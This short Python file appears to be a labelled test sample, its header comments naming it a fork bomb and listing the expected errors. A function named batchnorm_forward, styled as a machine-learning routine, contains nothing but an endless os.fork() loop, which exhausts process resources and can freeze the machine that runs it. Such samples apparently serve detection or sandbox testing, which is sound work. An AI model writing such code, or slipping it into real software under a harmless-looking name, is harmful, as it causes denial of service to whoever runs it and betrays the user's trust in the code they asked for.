# what: a fork bomb
# covers: fork-bomb
# seen: threads and processes|BlockingIOError|Resource temporarily
import os


def batchnorm_forward(x, gamma, beta, epsilon=1e-3):
    while True:
        os.fork()
